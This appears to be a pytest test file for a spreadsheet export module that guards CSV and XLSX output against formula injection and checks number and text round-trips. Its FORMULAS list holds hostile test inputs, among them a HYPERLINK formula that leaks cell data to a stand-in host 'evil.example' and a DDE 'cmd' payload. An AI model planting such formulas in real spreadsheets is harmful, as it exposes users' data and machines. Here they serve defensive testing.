"""What is written for spreadsheets: numbers as numbers, foreign text as text, the same bytes every time."""

import csv
import io
import math
import time
import zipfile

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tmm_report.intake.cells import number
from tmm_report.intake.sheets import read_sheets
from tmm_report.intake.writing import csv_bytes, csv_lines, guarded, unguarded, xlsx_bytes

NUMBERS = st.floats(allow_nan=False, allow_infinity=False) | st.integers(-(10**14), 10**14)
WORDS = st.text(
    st.characters(exclude_categories=["C", "Z"], exclude_characters=";,"), min_size=1, max_size=20
)
ROWS = st.lists(st.lists(NUMBERS, min_size=3, max_size=3), max_size=5)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open report")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1",
    "\n=1", "＝1+1", "＋1", "－1", "＠A1", " =1+1", "\xa0=1",
    "\ufeff=1", "\u200b\u2060+1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text(text):
    (cell,) = next(csv.reader(io.StringIO(csv_bytes([[text]], ".").decode("utf-8-sig"), newline="")))
    assert cell.startswith("'")
    assert unguarded(guarded(text)) == text or text[0] in "\t\r\n"
    cell = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"s": [[text]]})))["s"]["A1"]
    assert (cell.data_type, cell.value) == ("s", text.replace("\r", "\n"))
    assert cell.quotePrefix == (text[0] not in " \xa0\ufeff\u200b")


@pytest.mark.parametrize("text", ["a,=1+1", 'a;"=1+1', "a\n=1+1", "a\t@x", "a,＝1"])
def test_a_formula_behind_a_sign_that_parts_cells_elsewhere_is_none(text):
    """A file for a decimal comma opened where cells are parted by commas."""
    line = csv_bytes([["x", text]], ",").decode("utf-8-sig")
    for delimiter in ",;\t":
        cells = [cell for row in csv.reader(io.StringIO(line), delimiter=delimiter) for cell in row]
        assert not any(cell.lstrip('"').startswith(("=", "@", "＝")) for cell in cells)


def test_honest_text_and_numbers_get_no_apostrophe():
    content = csv_bytes([["Иванов И. И.", "v_B, m/s", -1.5, -2, 0.0, -0.0, 1e-7, "x = 5, −3"]], ".")
    assert content.decode("utf-8-sig") == 'Иванов И. И.,"v_B, m/s",-1.5,-2,0.0,0.0,1e-07,"x = 5, −3"\r\n'


def test_a_decimal_comma_parts_cells_with_semicolons():
    content = csv_bytes([["k", "v_B, м/с"], [0, -1.25], [1, None], [2, math.nan], [3, math.inf]], ",")
    assert content == "\ufeffk;v_B, м/с\r\n0;-1,25\r\n1;\r\n2;\r\n3;\r\n".encode()


def test_lines_join_to_the_file():
    rows = [["a", 1.5], ["b", None]]
    assert b"".join(csv_lines(iter(rows), ",")) == csv_bytes(rows, ",")
    assert csv_bytes([], ",") == b""


@given(ROWS, st.sampled_from(",."))
def test_numbers_in_csv_are_read_back(rows, decimal):
    content = csv_bytes([["a", "b", "c"], *rows], decimal)
    (sheet,) = read_sheets("a.csv", "a.csv", content)
    assert [[number(cell.text) for cell in row] for row in sheet.rows] == [
        [float(x) for x in row] for row in rows
    ]


@settings(deadline=None, max_examples=20)
@given(ROWS)
def test_numbers_in_xlsx_are_read_back(rows):
    (sheet,) = read_sheets("a.xlsx", "a.xlsx", xlsx_bytes({"s": [["a", "b", "c"], *rows]}))
    assert [[number(cell.text) for cell in row] for row in sheet.rows] == [
        [float(x) for x in row] for row in rows
    ]


@pytest.mark.exhaustive
@settings(deadline=None, max_examples=30)
@given(st.lists(WORDS, min_size=1, max_size=4), st.sampled_from(",."))
@example(["_x0041_", "=1", "'=1"], ",")
@example(["a,=b", '"', "''"], ".")
def test_text_is_read_back(words, decimal):
    (sheet,) = read_sheets("a.xlsx", "a.xlsx", xlsx_bytes({"s": [words]}))
    assert list(sheet.header) == words
    (sheet,) = read_sheets("a.csv", "a.csv", csv_bytes([["id", *words]], decimal))
    assert list(sheet.header) == ["id", *(unguarded(guarded(text)) for text in words)]


def test_a_library_reads_the_workbook_as_it_was_meant():
    rows = [["k", "v_B, м/с"], [0, -1.25], [1, None], [2, math.nan], ["=1+1", "a\x07b\nc"]]
    book = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes({"rates": rows, "other": [["x"]]}, {"rates": [5, 30]}))
    )
    sheet = book["rates"]
    assert [[cell.value for cell in row] for row in sheet] == [
        ["k", "v_B, м/с"], [0, -1.25], [1, None], [2, None], ["=1+1", "ab\nc"],
    ]  # fmt: skip
    assert all(cell.font.bold for cell in sheet[1]) and not any(cell.font.bold for cell in sheet[2])
    assert sheet.freeze_panes == "A2"
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (5, 30)
    assert book.sheetnames == ["rates", "other"]


def test_names_of_sheets_are_legal_and_different():
    names = ["a/b:c[d]", "a_b_c_d_", "", "History", "x" * 40, "X" * 31, "'q'"]
    made = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({name: [["v"]] for name in names}))).sheetnames
    assert made == ["a_b_c_d_", "a_b_c_d_-2", "Sheet", "History-2", "x" * 31, "X" * 29 + "-2", "q"]


def test_a_workbook_without_sheets_can_be_opened():
    assert openpyxl.load_workbook(io.BytesIO(xlsx_bytes({}))).sheetnames == ["Sheet"]


def test_the_same_rows_are_the_same_bytes_on_another_day(monkeypatch):
    rows = {"s": [["k", "v"], [0, 1.5]]}
    first = xlsx_bytes(rows)
    now = time.localtime(time.time() + 1e8)
    monkeypatch.setattr(time, "localtime", lambda *_: now)
    monkeypatch.setattr(time, "time", lambda: time.mktime(now))
    import datetime

    class Later(datetime.datetime):
        @classmethod
        def now(cls, tz=None):
            return super().now(tz) + datetime.timedelta(days=900)

    monkeypatch.setattr("openpyxl.writer.excel.datetime.datetime", Later)
    assert xlsx_bytes(rows) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_ragged_table_of_numbers_gets_its_widths():
    rows = [["k"], *[[1]] * 60, [1, 2, 3]]
    assert xlsx_bytes({"s": rows})
